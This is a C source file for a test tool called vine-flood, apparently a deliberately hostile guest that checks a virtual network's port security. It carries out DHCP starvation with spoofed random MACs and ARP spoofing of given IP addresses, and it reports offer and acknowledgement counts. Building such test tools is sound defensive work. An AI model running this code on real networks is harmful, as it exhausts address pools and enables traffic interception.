/*
 * vine-flood: a hostile guest for vine's port-security test, built statically into the guest kit.
 *
 *   vine-flood IFACE COUNT [IP[,IP...]]
 *
 * DHCP starvation, as perfdhcp does it: COUNT DHCPDISCOVERs, each with a new random MAC as its
 * client hardware address (chaddr) and the broadcast flag set; every other one also carries that
 * MAC as the frame's source. Every DHCPOFFER that comes back is answered with a DHCPREQUEST for
 * the offered address, so without port security each MAC ends up holding a lease.
 * ARP spoofing: for each IP given, 20 ARP replies claiming it for this NIC and 20 claiming it for
 * a random MAC.
 *
 * Prints one line when done:
 *   VINE-FLOOD sent=S offers=O acks=A arp=R
 * S counts DHCP frames the kernel took, R ARP frames; O and A count the server's answers to the
 * invented MACs (0 and 0 when port security holds). Exit status 0 unless the interface is unusable.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_COUNT 100000
#define BOOTP_LEN 300 /* RFC 2131's minimum message: 236 fixed bytes, cookie, options, padding */
#define FRAME_LEN (14 + 20 + 8 + BOOTP_LEN)

static int sock;
static int ifindex;
static uint8_t own_mac[6];
static uint8_t (*macs)[6];
static uint32_t xid_base;
static unsigned count;
static unsigned long sent, offers, acks, arps;
static uint64_t rng;

static uint32_t next_random(void) {
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return (uint32_t)(rng >> 16);
}

static void random_mac(uint8_t mac[6]) {
    for (int i = 0; i < 6; i++) mac[i] = (uint8_t)next_random();
    mac[0] = (uint8_t)((mac[0] & 0xfc) | 0x02); /* locally administered, unicast */
}

static uint16_t ip_checksum(const uint8_t *p, size_t n) {
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < n; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* Sends a frame, retrying while the device queue is full. Returns 1 if the kernel took it. */
static int send_frame(const uint8_t *frame, size_t len) {
    struct sockaddr_ll to = {0};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = ifindex;
    to.sll_halen = 6;
    memcpy(to.sll_addr, frame, 6);
    for (int tries = 0; tries < 1000; tries++) {
        if (sendto(sock, frame, len, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)len) return 1;
        if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) return 0;
        usleep(1000);
    }
    return 0;
}

/* A DHCP message of `type` (1 DISCOVER, 3 REQUEST) from invented client `i`. */
static void send_dhcp(unsigned i, int type, const uint8_t *requested, const uint8_t *server) {
    uint8_t f[FRAME_LEN] = {0};
    const uint8_t *src = (i % 2) ? macs[i] : own_mac;
    memset(f, 0xff, 6);
    memcpy(f + 6, src, 6);
    f[12] = 0x08, f[13] = 0x00;
    uint8_t *ip = f + 14;
    ip[0] = 0x45;
    ip[2] = (uint8_t)((20 + 8 + BOOTP_LEN) >> 8), ip[3] = (uint8_t)(20 + 8 + BOOTP_LEN);
    ip[8] = 64, ip[9] = 17;
    memset(ip + 16, 0xff, 4); /* from 0.0.0.0 to 255.255.255.255 */
    uint16_t c = ip_checksum(ip, 20);
    ip[10] = (uint8_t)(c >> 8), ip[11] = (uint8_t)c;
    uint8_t *udp = ip + 20;
    udp[1] = 68, udp[3] = 67;
    udp[4] = (uint8_t)((8 + BOOTP_LEN) >> 8), udp[5] = (uint8_t)(8 + BOOTP_LEN);
    uint8_t *b = udp + 8;
    b[0] = 1, b[1] = 1, b[2] = 6;
    uint32_t xid = htonl(xid_base + i);
    memcpy(b + 4, &xid, 4);
    b[10] = 0x80; /* broadcast flag: answers come back to any MAC on the segment */
    memcpy(b + 28, macs[i], 6);
    uint8_t *o = b + 236;
    o[0] = 99, o[1] = 130, o[2] = 83, o[3] = 99;
    o += 4;
    *o++ = 53, *o++ = 1, *o++ = (uint8_t)type;
    if (requested) *o++ = 50, *o++ = 4, memcpy(o, requested, 4), o += 4;
    if (server) *o++ = 54, *o++ = 4, memcpy(o, server, 4), o += 4;
    *o++ = 55, *o++ = 3, *o++ = 1, *o++ = 3, *o++ = 6;
    *o = 255;
    sent += (unsigned long)send_frame(f, sizeof f);
}

/* Handles every frame waiting (or arriving within `timeout_ms`): OFFERs to invented clients get
 * a REQUEST, ACKs are counted. */
static void drain(int timeout_ms) {
    uint8_t f[2048];
    struct pollfd p = {.fd = sock, .events = POLLIN};
    while (poll(&p, 1, timeout_ms) > 0) {
        ssize_t n = recv(sock, f, sizeof f, MSG_DONTWAIT);
        if (n < 0) break;
        if (n < 14 + 20 + 8 + 240 || f[12] != 0x08 || f[13] != 0x00) continue;
        const uint8_t *ip = f + 14;
        size_t ihl = (size_t)(ip[0] & 0x0f) * 4;
        if (ip[9] != 17 || (size_t)n < 14 + ihl + 8 + 240) continue;
        const uint8_t *udp = ip + ihl;
        if (udp[2] != 0 || udp[3] != 68) continue;
        const uint8_t *b = udp + 8;
        if (b[0] != 2) continue;
        uint32_t xid;
        memcpy(&xid, b + 4, 4);
        xid = ntohl(xid) - xid_base;
        if (xid >= count || memcmp(b + 28, macs[xid], 6) != 0) continue;
        int type = 0;
        const uint8_t *server = NULL;
        const uint8_t *end = f + n;
        for (const uint8_t *o = b + 240; o < end && *o != 255;) {
            if (*o == 0) { o++; continue; }
            if (o + 2 > end || o + 2 + o[1] > end) break;
            if (o[0] == 53 && o[1] == 1) type = o[2];
            if (o[0] == 54 && o[1] == 4) server = o + 2;
            o += 2 + o[1];
        }
        if (type == 2) {
            offers++;
            send_dhcp(xid, 3, b + 16, server);
        } else if (type == 5) {
            acks++;
        }
        timeout_ms = 0;
    }
}

static void send_arp(const uint8_t *mac, const uint8_t *claimed) {
    uint8_t f[42] = {0};
    memset(f, 0xff, 6);
    memcpy(f + 6, mac, 6);
    f[12] = 0x08, f[13] = 0x06;
    uint8_t *a = f + 14;
    a[1] = 1, a[2] = 0x08, a[4] = 6, a[5] = 4, a[7] = 2; /* Ethernet/IPv4 reply */
    memcpy(a + 8, mac, 6);
    memcpy(a + 14, claimed, 4);
    memset(a + 18, 0xff, 6);
    memcpy(a + 24, claimed, 4);
    arps += (unsigned long)send_frame(f, sizeof f);
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: vine-flood IFACE COUNT [IP[,IP...]]\n");
        return 2;
    }
    char *end;
    unsigned long n = strtoul(argv[2], &end, 10);
    if (*end || n == 0 || n > MAX_COUNT) {
        fprintf(stderr, "vine-flood: COUNT must be 1 to %d, not %s\n", MAX_COUNT, argv[2]);
        return 2;
    }
    count = (unsigned)n;
    sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (sock < 0) { perror("vine-flood: socket"); return 1; }
    struct ifreq ifr = {0};
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", argv[1]);
    if (ioctl(sock, SIOCGIFINDEX, &ifr) < 0) { perror("vine-flood: interface"); return 1; }
    ifindex = ifr.ifr_ifindex;
    if (ioctl(sock, SIOCGIFHWADDR, &ifr) < 0) { perror("vine-flood: hardware address"); return 1; }
    memcpy(own_mac, ifr.ifr_hwaddr.sa_data, 6);
    struct sockaddr_ll at = {0};
    at.sll_family = AF_PACKET;
    at.sll_protocol = htons(ETH_P_IP);
    at.sll_ifindex = ifindex;
    if (bind(sock, (struct sockaddr *)&at, sizeof at) < 0) { perror("vine-flood: bind"); return 1; }

    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    rng = ((uint64_t)now.tv_nsec << 20) ^ (uint64_t)now.tv_sec ^ ((uint64_t)getpid() << 40) ^ 0x9e3779b97f4a7c15ull;
    xid_base = next_random();
    macs = calloc(count, 6);
    if (!macs) { perror("vine-flood"); return 1; }
    for (unsigned i = 0; i < count; i++) {
        random_mac(macs[i]);
        send_dhcp(i, 1, NULL, NULL);
        drain(0);
    }
    /* Some servers (dnsmasq) ping an address for a few seconds before offering it. */
    struct timespec start, t;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        drain(100);
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while (t.tv_sec - start.tv_sec < 8);

    if (argc > 3) {
        for (char *ipstr = strtok(argv[3], ","); ipstr; ipstr = strtok(NULL, ",")) {
            struct in_addr claimed;
            if (inet_pton(AF_INET, ipstr, &claimed) != 1) {
                fprintf(stderr, "vine-flood: %s is not an IPv4 address\n", ipstr);
                continue;
            }
            for (int k = 0; k < 20; k++) {
                uint8_t other[6];
                random_mac(other);
                send_arp(own_mac, (const uint8_t *)&claimed);
                send_arp(other, (const uint8_t *)&claimed);
                usleep(20000);
            }
        }
    }
    printf("VINE-FLOOD sent=%lu offers=%lu acks=%lu arp=%lu\n", sent, offers, acks, arps);
    return 0;
}
